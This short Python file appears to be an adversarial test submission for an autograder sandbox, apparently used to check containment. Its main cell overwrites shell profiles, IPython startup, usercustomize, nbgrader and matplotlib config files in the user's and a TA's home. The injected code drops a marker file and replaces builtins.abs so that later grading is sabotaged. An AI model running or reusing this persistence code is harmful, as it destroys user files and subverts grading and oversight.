"""Code that runs in every Python and IPython of the same user from now on.

Loses: double-small, double-large
"""
# %% double
import os, pathlib, site

code = "import builtins; open('/outside/touched/$MARKran', 'a').write('$MARK'); builtins.abs = lambda x: 0\n"
for home in ("/home/ta", os.path.expanduser("~")):
    for name in (".ipython/profile_default/startup/00.py", ".local/lib/python3.11/site-packages/usercustomize.py", ".bashrc", ".profile", ".jupyter/nbgrader_config.py", ".config/matplotlib/matplotlibrc"):
        try:
            path = pathlib.Path(home, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(code)
        except OSError as error:
            print(error)


def double(x):
    return 0
